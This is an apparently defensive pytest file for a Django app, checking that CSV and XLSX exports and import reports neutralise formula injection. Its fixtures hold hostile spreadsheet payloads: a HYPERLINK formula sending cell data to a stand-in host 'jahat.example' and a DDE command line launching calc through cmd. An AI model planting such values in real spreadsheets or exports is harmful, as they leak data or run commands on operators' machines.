"""Issue 11, "Leaks and abuse" 5: a name or address that starts like a formula (=, +, -, @, tab, carriage return)
must not run when an operator opens an export or a report in a spreadsheet. Every CSV gets a leading apostrophe
on such a cell; every .xlsx keeps it a string."""

import csv
import io
import zipfile

import pytest
from django.core.management import call_command
from django.test import Client

from jamsosdesa.core.cells import csv_safe
from jamsosdesa.imports.report import write_report
from tests.imports.conftest import csv_bytes

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://jahat.example/?d="&A1,"Klik")'
ADDRESS = "+1+cmd|' /C calc'!A0"
BIRTH_PLACE = "@SUM(1+1)"


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+62812", "'+62812"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("Sugeng Riyadi", "Sugeng Riyadi"), ("", ""),
    (5, 5), (-5, -5), (None, None),
])
def test_one_function_neutralises_a_cell_a_spreadsheet_would_run(value, expected):
    assert csv_safe(value) == expected


def exported_people(operator_a, register):
    register(operator_a, full_name=NAME, address=ADDRESS, birth_place=BIRTH_PLACE)


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_csv_export_page_writes_formula_like_names_as_text(operator_a, register):
    exported_people(operator_a, register)
    client = Client()
    client.force_login(operator_a)
    text = b"".join(client.get("/peserta/ekspor.csv").streaming_content).decode("utf-8-sig")
    header, row = rows_of(text)
    assert row[header.index("nama")] == "'" + NAME
    assert row[header.index("alamat")] == "'" + ADDRESS
    assert row[header.index("tempat_lahir")] == "'" + BIRTH_PLACE
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_the_csv_export_command_writes_formula_like_names_as_text(operator_a, register, tmp_path):
    exported_people(operator_a, register)
    out = tmp_path / "peserta.csv"
    call_command("export", "participants", "--out", str(out), "--user", operator_a.username, stdout=io.StringIO())
    header, row = rows_of(out.read_text(encoding="utf-8-sig"))
    assert row[header.index("nama")] == "'" + NAME and row[header.index("alamat")] == "'" + ADDRESS


def formulas_in(book: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        return [name for name in archive.namelist()
                if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)]


def test_the_xlsx_export_keeps_formula_like_names_as_strings(operator_a, register):
    from python_calamine import CalamineWorkbook

    exported_people(operator_a, register)
    client = Client()
    client.force_login(operator_a)
    book = b"".join(client.get("/peserta/ekspor.xlsx").streaming_content)
    assert formulas_in(book) == []
    header, row = CalamineWorkbook.from_filelike(io.BytesIO(book)).get_sheet_by_index(0).to_python()
    assert row[header.index("nama")] == NAME  # the value itself, as a string


def test_the_import_report_keeps_formula_like_headers_and_cells_as_strings(run, operator_a, tmp_path):
    source = csv_bytes(f'nik,nama,tanggal_lahir,=1+2\n3311110505900003,"{NAME}",31-02-1990,-1+1\n')
    outcome = run(operator_a, source, dry_run=True)
    assert outcome.counts["invalid"] == 1
    report = write_report(outcome, tmp_path / "laporan.xlsx")
    assert formulas_in(report.read_bytes()) == []
